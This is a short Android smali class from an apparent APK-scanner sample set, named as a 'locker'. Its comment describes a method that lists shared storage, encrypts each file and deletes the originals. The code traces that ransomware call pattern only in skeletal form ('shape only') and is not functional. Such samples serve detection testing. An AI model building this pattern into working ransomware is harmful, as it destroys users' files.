.class public Lorg/apkscan/sample/locker/Crypt;
.super Ljava/lang/Object;
.source "Crypt.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

# Lists shared storage, encrypts each file and deletes the original (shape only).
.method public walk(Ljavax/crypto/Cipher;)V
    .registers 5
    invoke-static {}, Landroid/os/Environment;->getExternalStorageDirectory()Ljava/io/File;
    move-result-object v0
    invoke-virtual {v0}, Ljava/io/File;->listFiles()[Ljava/io/File;
    const/4 v1, 0x0
    new-array v1, v1, [B
    invoke-virtual {p1, v1}, Ljavax/crypto/Cipher;->doFinal([B)[B
    invoke-virtual {v0}, Ljava/io/File;->delete()Z
    return-void
.end method
